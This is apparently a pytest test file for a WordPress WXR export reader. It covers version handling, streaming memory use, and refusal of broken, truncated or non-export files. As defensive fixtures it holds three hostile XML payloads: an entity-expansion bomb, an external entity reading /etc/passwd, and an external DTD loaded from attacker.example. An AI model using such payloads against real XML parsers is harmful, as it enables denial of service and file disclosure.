"""Reading exports: every WXR version, streamed, and hostile or broken files refused before anything is written."""

import tracemalloc

import pytest

from wordpress import wxr

from .exports import export, post, term, write


@pytest.mark.parametrize("version", ["1.0", "1.1", "1.2"])
def test_every_wxr_version_is_read(tmp_path, version):
    text = export([post(5, "Hello", body="Body", excerpt="Short", terms=[term("category", "news", "News")])], version=version)
    facts = list(wxr.read(write(tmp_path, "site.xml", text)))
    site, author, item = facts
    assert site.base_url == "https://en.example.org" and site.wxr_version == version
    assert (author.login, author.display_name) == ("rania", "Rania Khalil")
    assert (item.post_id, item.title, item.content, item.excerpt, item.status) == (5, "Hello", "Body", "Short", "publish")
    assert item.terms_in("category")[0].slug == "news"


def test_items_are_let_go_once_read(tmp_path):
    path = write(tmp_path, "site.xml", export([post(n, f"Post {n}") for n in range(1, 50)]))
    seen = []
    for fact in wxr.read(path):
        if isinstance(fact, wxr.Item):
            seen.append(fact.post_id)
    assert seen == list(range(1, 50))
    assert wxr.check(path) == 49


def _peak_memory_reading(path):
    tracemalloc.start()
    try:
        wxr.check(path)
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_memory_stays_flat_whatever_the_size_of_the_file(tmp_path):
    body = "<p>" + "word " * 400 + "</p>"
    small = write(tmp_path, "small.xml", export([post(n, f"Post {n}", body=body) for n in range(1, 201)]))
    large = write(tmp_path, "large.xml", export([post(n, f"Post {n}", body=body) for n in range(1, 2001)]))
    # Ten times the posts (4 MB of text): were items kept, the peak would grow tenfold.
    assert _peak_memory_reading(large) < 2 * _peak_memory_reading(small)


BOMB = """<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
]>
<rss><channel><title>&d;&d;&d;&d;&d;&d;&d;&d;</title></channel></rss>
"""
EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss><channel><item><title>&secret;</title></item></channel></rss>
"""
NETWORK = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss><channel/></rss>
"""


@pytest.mark.parametrize("text", [BOMB, EXTERNAL, NETWORK], ids=["entity bomb", "external entity", "external DTD"])
def test_hostile_files_are_refused(tmp_path, text):
    with pytest.raises(wxr.HostileFile, match="refused"):
        wxr.check(write(tmp_path, "evil.xml", text))


def test_malformed_file_names_its_line(tmp_path):
    text = export([post(1, "One")]).replace("<wp:post_id>1</wp:post_id>", "<wp:post_id>1</wp:post>")
    with pytest.raises(wxr.MalformedFile) as caught:
        wxr.check(write(tmp_path, "broken.xml", text))
    assert caught.value.line > 1
    assert "line" in str(caught.value)


def test_truncated_file_is_refused_with_the_line_it_ends_on(tmp_path):
    text = export([post(1, "One"), post(2, "Two")])
    cut = text[: len(text) // 2]
    with pytest.raises(wxr.MalformedFile) as caught:
        wxr.check(write(tmp_path, "cut.xml", cut))
    last_line = cut.count("\n") + 1
    assert caught.value.line == last_line
    assert f"cut.xml: not a well-formed WordPress export, line {last_line}," in str(caught.value)


def test_a_control_character_in_a_post_is_named_with_what_to_do(tmp_path):
    text = export([post(1, "One", body="Pasted from a word processor: \x0b here")])
    with pytest.raises(wxr.MalformedFile) as caught:
        wxr.check(write(tmp_path, "old.xml", text))
    message = str(caught.value)
    line = text[: text.index("\x0b")].count("\n") + 1
    assert f"old.xml: not a well-formed WordPress export, line {line}, column " in message
    assert "often a control character pasted into a post" in message and "correct it in WordPress" in message
    assert message.count("line ") == 1  # the position is said once


@pytest.mark.parametrize("content", [b"", b"\x89PNG\r\n\x1a\n\x00\x00binary", b"PK\x03\x04zip", "post_id,title\n1,One\n".encode()],
                         ids=["empty", "an image", "a zip", "a CSV"])
def test_a_file_that_is_not_xml_is_refused(tmp_path, content):
    path = tmp_path / "export.xml"
    path.write_bytes(content)
    with pytest.raises(wxr.MalformedFile, match="not a well-formed WordPress export, line 1"):
        wxr.check(str(path))


RSS_FEED = """<?xml version="1.0"?>
<rss version="2.0"><channel><title>A news feed</title><link>https://en.example.org</link>
<item><title>Story</title><link>https://en.example.org/story/</link><description>Text</description></item>
</channel></rss>"""


@pytest.mark.parametrize("text", ["<?xml version='1.0'?><html><body/></html>", RSS_FEED, "<rss><title>x</title></rss>"],
                         ids=["other XML", "an RSS feed that is no export", "no channel"])
def test_other_xml_is_not_an_export(tmp_path, text):
    with pytest.raises(wxr.NotAnExport, match="not a WordPress export"):
        wxr.check(write(tmp_path, "feed.xml", text))


ONLY_ITEMS = """<?xml version="1.0"?>
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><title>Bare</title>
<item><title>One</title><wp:post_id>{first}</wp:post_id><wp:post_id>7</wp:post_id></item>
<item><title>Two</title><wp:post_id>  </wp:post_id></item>
</channel></rss>"""


@pytest.mark.parametrize("first, is_export", [("12", True), ("abc", False), ("0", False)])
def test_the_check_before_the_import_refuses_exactly_what_reading_refuses(tmp_path, first, is_export):
    # The only sign of WordPress is an item's first post id: a positive number makes the file an export.
    path = write(tmp_path, "bare.xml", ONLY_ITEMS.format(first=first))
    if is_export:
        assert wxr.check(path) == 2
        assert [fact.post_id for fact in wxr.read(path) if isinstance(fact, wxr.Item)] == [12, 0]
    else:
        with pytest.raises(wxr.NotAnExport):
            wxr.check(path)
        with pytest.raises(wxr.NotAnExport):
            list(wxr.read(path))


def test_polylang_groups_are_read_from_php_arrays():
    assert wxr.php_language_map('a:2:{s:2:"en";i:398;s:2:"ar";s:3:"400";}') == {"en": 398, "ar": 400}
    assert wxr.php_language_map('a:3:{s:2:"en";i:4;s:4:"sync";a:1:{s:2:"ar";s:2:"en";}}') == {"en": 4}
